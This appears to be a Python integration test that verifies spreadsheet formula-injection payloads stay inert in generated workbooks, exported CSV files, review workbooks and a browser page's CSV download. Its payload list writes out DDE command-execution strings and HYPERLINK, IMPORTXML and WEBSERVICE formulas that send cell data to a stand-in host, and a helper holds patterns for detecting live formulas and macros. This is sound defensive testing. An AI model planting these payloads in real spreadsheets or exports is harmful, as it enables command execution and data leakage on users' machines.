"""Formulas in text: none is live in a workbook, in a page's download, and all come back as sent.

Every payload stands in every text field of the canonical tables: in a workbook made of them, and,
as far as a CSV file can state it, in the files of a small firm that are taken in, measured,
exported and reviewed. `export` writes values untouched.
"""

from __future__ import annotations

import csv
import html
import io
import re
import shutil
import zipfile
from collections.abc import Iterator, Sequence
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path

import openpyxl
from openpyxl.utils.escape import unescape
from playwright.sync_api import sync_playwright

from routewarden.base.schema import CANONICAL, TABLES, Kind, Type
from routewarden.evidence.document import Section
from routewarden.evidence.sheet import runs
from routewarden.evidence.table import Cell, Heading, Table, text_cell
from routewarden.runs.workbook import make_workbook
from tests.integration.warm import warm
from tests.matrix.row import Outcome, Volume, tell
from tests.sample_review import sample_review

TITLE = "formulas in text"
_CALLS = (
    *("1+1", "SUM(A1:A9)", 'HYPERLINK("http://127.0.0.1/?"&A1,"look")', "cmd|' /C calc'!A0"),
    *('IMPORTXML(CONCAT("http://127.0.0.1/",A1),"//a")', 'WEBSERVICE("http://127.0.0.1")'),
)
PAYLOADS: Sequence[str] = (
    *(f"{sign}{call}" for sign in "=+-@" for call in _CALLS),
    *(f"{blank}=1+1" for blank in ("\t", "\r", "\n", "\0", " ", "\r\n\t")),
    *(f"{wide}1+1" for wide in "\uff1d\uff0b\uff0d\uff20"),
    *('"=1+1', "'=1+1", "=1+1;=2+2", "_x003D_1+1", 'DDE("cmd","/C calc")', "{=1+1}"),
)
FIELDS = [
    (kind, column.name)
    for kind in CANONICAL
    for column in TABLES[kind].columns
    if column.type is Type.TEXT
]
LEAST = len(PAYLOADS) * len(FIELDS)
_NEGATIVES = ("-0.25", "-1", "-12345.678", "-1e3")
_CHROMIUM = shutil.which("chromium") or shutil.which("google-chrome")

Trial = tuple[str, bool]
"""What was tried, and whether it went as it should."""


def trials(volume: Volume) -> Outcome:
    """Write, read back and compare."""
    parts = {
        "cells of a workbook": workbook(PAYLOADS[: volume.of(len(PAYLOADS))]),
        "values exported and reviewed": taken_in(volume),
        "fields of a page's download": downloaded(),
    }
    counts = {name: _count(volume, part) for name, part in parts.items()}
    said = [f"{right:,}/{made:,} {name}" for name, (made, right) in counts.items()]
    if _CHROMIUM is None:
        said[-1] = "the page's download left out: Chromium is not here"
    made, right = (sum(count[place] for count in counts.values()) for place in (0, 1))
    return Outcome(made, right, "0 formula cells wanted: " + ", ".join(said))


def _count(volume: Volume, part: Iterator[Trial]) -> tuple[int, int]:
    made = right = 0
    for case, is_right in part:
        made, right = made + 1, right + is_right
        if not is_right:
            tell(16, volume, case, "is live, or is not what was sent")
    return made, right


def workbook(payloads: Sequence[str]) -> Iterator[Trial]:
    """Write every payload in every field of a workbook, numbers beside them."""
    tables = []
    for kind in CANONICAL:
        names = [name for each, name in FIELDS if each is kind]
        headings = (*map(Heading, names), Heading("number", numeric=True))
        rows = tuple(
            (*(text_cell(payload) for _ in names), _number(at))
            for at, payload in enumerate(payloads)
        )
        tables.append(Table(kind.value, kind.value, payloads[0], headings, rows))
    document = replace(sample_review(), sections=(Section("s", "S", "", tuple(tables)),))
    data = make_workbook(document, datetime(2026, 10, 5, tzinfo=UTC))
    book = openpyxl.load_workbook(io.BytesIO(data))
    for kind in CANONICAL:
        columns = [*zip(*book[kind.value].iter_rows(min_row=5), strict=True)]
        names = [name for each, name in FIELDS if each is kind]
        for name, cells in zip(names, columns, strict=False):
            for payload, cell in zip(payloads, cells, strict=True):
                value = str(cell.value)  # the reader undoes one way of writing letters, not another
                kept = payload in {value, unescape(value)} and cell.data_type == "s"
                yield f"{kind} {name} {payload!r}", kept and cell.quotePrefix is runs(payload)
        for at, cell in enumerate(columns[len(names)]):
            right = cell.data_type == "n" and float(cell.value) == float(_number(at).exact)
            yield f"{kind}, the number {_number(at).exact}", right
    yield "the parts of the file", not _live(data)
    yield "the texts of the file", _texts_of(data).issuperset(payloads)


def _texts_of(data: bytes) -> set[str]:
    """Return the texts that a workbook's cells refer to, from its XML."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        raw = archive.read("xl/sharedStrings.xml").decode()
    found = re.findall(r"<t(?: [^>]*)?>([^<]*)</t>", raw)
    return {unescape(html.unescape(text)) for text in found}


def _number(at: int) -> Cell:
    exact = _NEGATIVES[at % len(_NEGATIVES)]
    return Cell(exact, exact)


def _live(data: bytes) -> list[str]:
    """Return the parts of a workbook that calculate, or reach outside it."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        parts = {name: archive.read(name).decode() for name in archive.namelist()}
    inside = re.compile(r"<f[ >/]|<ddeLink|TargetMode=.External|<externalReference")
    odd = re.compile(r"externalLinks|macro|vba|activeX|connections", re.IGNORECASE)
    return [name for name, text in parts.items() if inside.search(text) or odd.search(name)]


_ROWS = {
    Kind.ORDERS: {"received_at": "2026-07-06T14:00:00Z", "side": "buy", "quantity": "100",
                  "order_type": "market", "symbol": "ABC"},
    Kind.ROUTES: {"sent_at": "2026-07-06T14:00:01Z", "quantity": "100"},
    Kind.FILLS: {"executed_at": "2026-07-06T14:00:02Z", "price": "10.05", "quantity": "100"},
}  # fmt: skip
"""What a row of each kind states besides its text."""


def taken_in(volume: Volume) -> Iterator[Trial]:
    """Take the payloads in as a firm's files; look at what is exported, and at the review."""
    home = volume.folder / "firm"
    warm(home, "init")
    quotes = "symbol,at,bid,ask\n" + "ABC,2026-07-06T13:59:00Z,10,10.1\n"
    _ingest(home, Kind.QUOTES, quotes.encode(), volume.folder)
    sent = [payload for payload in PAYLOADS if "\0" not in payload]
    for kind in _ROWS:
        _ingest(home, kind, _file(kind, PAYLOADS), volume.folder)
    ran = warm(home, "run")
    yield f"run: {ran.err}", ran.status == 0
    for kind in _ROWS:
        out = volume.folder / f"{kind}.csv"
        warm(home, "export", kind.value, "--out", out)
        with out.open(newline="", encoding="utf-8") as file:
            rows = [*csv.DictReader(file)]
        for name in _texts(kind):
            found = sorted(row[name] for row in rows)
            yield f"{kind} {name} exported", found == sorted(sent)
    target = volume.folder / "review"
    reviewed = warm(home, "review", "2026Q3", "--out", target)
    yield f"review: {reviewed.err}", reviewed.status in {0, 1}
    yield "the review's workbook", not _live((target / "review.xlsx").read_bytes())


def _texts(kind: Kind) -> list[str]:
    """Return the text fields of a kind, but for an order's symbol, which needs a market."""
    return [name for each, name in FIELDS if each is kind and name not in {"symbol", "refers_to"}]


def _file(kind: Kind, payloads: Sequence[str]) -> bytes:
    """Return a CSV file that has each payload in every text field of a row."""
    text = io.StringIO()
    names = [*_ROWS[kind], *_texts(kind)]
    writer = csv.DictWriter(text, names, quoting=csv.QUOTE_ALL)
    writer.writeheader()
    for payload in payloads:
        writer.writerow({**dict.fromkeys(_texts(kind), payload), **_ROWS[kind]})
    return text.getvalue().encode()


def _ingest(home: Path, kind: Kind, data: bytes, folder: Path) -> None:
    path = folder / f"given-{kind}.csv"
    path.write_bytes(data)
    warm(home, "ingest", kind.value, path)


def downloaded() -> Iterator[Trial]:
    """Ask the page's own script for each payload's field of a CSV file."""
    if _CHROMIUM is None:
        return
    script = Path(make_workbook.__code__.co_filename).parent / "templates" / "page.js"
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=_CHROMIUM, args=["--no-sandbox"])
        page = browser.new_page()
        page.set_content("<nav><details></details></nav>")
        page.add_script_tag(content=script.read_text(encoding="utf-8"))
        for payload in PAYLOADS:
            (said,) = next(csv.reader(io.StringIO(page.evaluate("field", payload), newline="")))
            yield f"download {payload!r}", said == ("'" if runs(payload) else "") + payload
        for number in ("-0.25", "-1"):
            yield f"download {number}", page.evaluate("field", number) == f'"{number}"'
        browser.close()
